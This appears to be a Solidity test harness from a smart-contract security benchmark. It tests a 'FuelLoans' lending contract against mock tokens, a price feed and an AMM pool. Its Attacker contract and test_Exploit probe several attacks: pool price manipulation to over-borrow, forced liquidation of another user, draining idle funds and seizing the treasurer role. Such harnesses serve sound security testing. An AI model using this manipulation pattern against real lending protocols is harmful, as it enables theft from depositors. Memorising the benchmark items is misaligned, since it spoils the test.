// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IAccessControl} from "@openzeppelin/contracts@5.4.0/access/IAccessControl.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./FuelLoans.sol";

// assay-canary-08ebc472-6d86-4c4b-b534-1db0f2388bb3

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Usd is ERC20("Dollar", "USD") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Fuel is ERC20("Fuel", "FUEL") {
    address private immutable minter = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        _mint(to, amount);
    }
}

contract Feed is IPriceFeed {
    address private immutable owner = msg.sender;
    uint256 private price;
    uint256 private updatedAt;

    function report(uint256 price_) external {
        require(msg.sender == owner, "owner only");
        (price, updatedAt) = (price_, block.timestamp);
    }

    function latest() external view returns (uint256, uint256) {
        return (price, updatedAt);
    }
}

contract Pool is IFuelPool {
    IERC20 private immutable fuel;
    IERC20 private immutable usd;

    constructor(IERC20 fuel_, IERC20 usd_) {
        (fuel, usd) = (fuel_, usd_);
    }

    function reserves() public view returns (uint256, uint256) {
        return (fuel.balanceOf(address(this)), usd.balanceOf(address(this)));
    }

    function buyFuel(uint256 usdIn) external returns (uint256 out) {
        (uint256 x, uint256 y) = reserves();
        out = (x * usdIn) / (y + usdIn);
        usd.transferFrom(msg.sender, address(this), usdIn);
        fuel.transfer(msg.sender, out);
    }

    function sellFuel(uint256 fuelIn) external returns (uint256 out) {
        (uint256 x, uint256 y) = reserves();
        out = (y * fuelIn) / (x + fuelIn);
        fuel.transferFrom(msg.sender, address(this), fuelIn);
        usd.transfer(msg.sender, out);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_790_000_000;

    Usd public usd;
    Fuel private fuel;
    Feed private feed;
    Pool private pool;
    FuelLoans private loans;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        usd = new Usd();
        fuel = new Fuel();
        feed = new Feed();
        pool = new Pool(fuel, usd);
        loans = new FuelLoans(address(this), fuel, usd, feed, pool);
        feed.report(2e18);
        fuel.mint(address(pool), 10_000e18);
        usd.mint(address(pool), 20_000e18);
        usd.mint(address(loans), 20_000e18);
        fuel.mint(ANA, 1_000e18);
        fuel.mint(BEN, 1_000e18);
        usd.mint(BEN, 5_000e18);
        allow(ANA);
        allow(BEN);
        vm.prank(ANA);
        loans.change(1_000e18, 1_150e18);
        mallory = new Attacker(loans, pool, fuel, usd, ANA);
        fuel.mint(address(mallory), 500e18);
        usd.mint(address(mallory), 100_000e18);
    }

    function allow(address who) private {
        vm.startPrank(who);
        fuel.approve(address(loans), type(uint256).max);
        usd.approve(address(loans), type(uint256).max);
        usd.approve(address(pool), type(uint256).max);
        fuel.approve(address(pool), type(uint256).max);
        vm.stopPrank();
    }

    function test_Regular() public {
        require(loans.lendingPrice() == 2e18 && usd.balanceOf(ANA) == 1_150e18, "lent");
        vm.startPrank(ANA);
        loans.change(1_000e18, 150e18);
        require(usd.balanceOf(ANA) == 150e18 && loans.debtOf(ANA) == 150e18, "repaid");
        loans.change(900e18, 1_080e18);
        require(fuel.balanceOf(ANA) == 100e18 && loans.collateralOf(ANA) == 900e18, "as much as there may be");
        vm.stopPrank();
        vm.startPrank(BEN);
        loans.change(500e18, 600e18);
        vm.warp(START + 2 hours);
        loans.change(500e18, 0);
        loans.change(0, 0);
        vm.stopPrank();
        require(fuel.balanceOf(BEN) == 1_000e18 && usd.balanceOf(BEN) == 5_000e18, "a report is needed for loans only");
        feed.report(1.4e18);
        vm.prank(BEN);
        loans.liquidate(ANA);
        require(fuel.balanceOf(BEN) == 1_900e18 && usd.balanceOf(BEN) == 3_920e18, "liquidated");
        require(loans.debtOf(ANA) == 0 && loans.collateralOf(ANA) == 0, "closed");
        loans.withdrawIdle(address(0x7E), 1_000e18);
        require(usd.balanceOf(address(0x7E)) == 1_000e18 && usd.balanceOf(address(loans)) == 19_000e18, "withdrawn");
        bytes32 role = loans.TREASURER_ROLE();
        loans.grantRole(role, ANA);
        loans.revokeRole(role, ANA);
        loans.renounceRole(role, address(this));
        require(!loans.hasRole(role, address(this)), "gone");
    }

    function test_RefusesLoans() public {
        vm.startPrank(BEN);
        vm.expectRevert("FuelLoans: too little collateral");
        loans.change(100e18, 120e18 + 1);
        loans.change(100e18, 120e18);
        vm.expectRevert("FuelLoans: too little collateral");
        loans.change(100e18 - 1, 120e18);
        vm.warp(START + 1 hours);
        loans.change(200e18, 121e18);
        vm.warp(START + 1 hours + 1);
        vm.expectRevert("FuelLoans: stale report");
        loans.change(200e18, 122e18);
        vm.stopPrank();
    }

    function test_RefusesLiquidations() public {
        feed.report(1.4375e18);
        vm.startPrank(BEN);
        vm.expectRevert("FuelLoans: covered");
        loans.liquidate(ANA);
        vm.stopPrank();
        feed.report(1.4374e18);
        vm.prank(BEN);
        loans.liquidate(ANA);
    }

    function test_RefusesStrangers() public {
        bytes32 role = loans.TREASURER_ROLE();
        vm.prank(ANA);
        vm.expectRevert(
            abi.encodeWithSelector(IAccessControl.AccessControlUnauthorizedAccount.selector, ANA, role)
        );
        loans.withdrawIdle(ANA, 1);
    }

    function exploit() public {
        mallory.run();
        vm.warp(block.timestamp + 40 minutes);
        mallory.run();
        vm.warp(block.timestamp + 2 hours);
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(usd.balanceOf(address(mallory)) >= 110_000e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    FuelLoans private loans;
    Pool private pool;
    IERC20 private fuel;
    IERC20 private usd;
    address private other;

    constructor(FuelLoans loans_, Pool pool_, IERC20 fuel_, IERC20 usd_, address other_) {
        (loans, pool, fuel, usd, other) = (loans_, pool_, fuel_, usd_, other_);
        fuel.approve(address(loans), type(uint256).max);
        usd.approve(address(loans), type(uint256).max);
        fuel.approve(address(pool), type(uint256).max);
        usd.approve(address(pool), type(uint256).max);
    }

    function attempt(address to, bytes memory data) private {
        (bool done, ) = to.call(data);
        done;
    }

    function run() external {
        // a high price in the pool, and a loan against fuel, or less fuel for a loan
        uint256 mine = loans.collateralOf(address(this)) + fuel.balanceOf(address(this));
        uint256 bought = pool.buyFuel(usd.balanceOf(address(this)));
        uint256 idle = usd.balanceOf(address(loans));
        uint256 debt = loans.debtOf(address(this));
        attempt(address(loans), abi.encodeCall(loans.change, (mine, debt + idle)));
        if (idle > 0) attempt(address(loans), abi.encodeCall(loans.change, (mine + bought, debt + idle)));
        attempt(address(loans), abi.encodeCall(loans.change, (mine, loans.debtOf(address(this)))));
        attempt(address(loans), abi.encodeCall(loans.change, (1e18, loans.debtOf(address(this)))));
        attempt(address(loans), abi.encodeCall(loans.change, (mine, loans.debtOf(address(this)) + 500e18)));
        attempt(address(pool), abi.encodeCall(pool.sellFuel, (bought)));
        // a low price in the pool, and the fuel of somebody else
        uint256 rest = fuel.balanceOf(address(this));
        attempt(address(pool), abi.encodeCall(pool.sellFuel, (rest)));
        attempt(address(loans), abi.encodeCall(loans.liquidate, (other)));
        attempt(address(loans), abi.encodeCall(loans.liquidate, (address(loans))));
        // what is the treasurer's
        attempt(address(loans), abi.encodeCall(loans.withdrawIdle, (address(this), idle)));
        attempt(address(loans), abi.encodeCall(loans.grantRole, (loans.TREASURER_ROLE(), address(this))));
    }
}
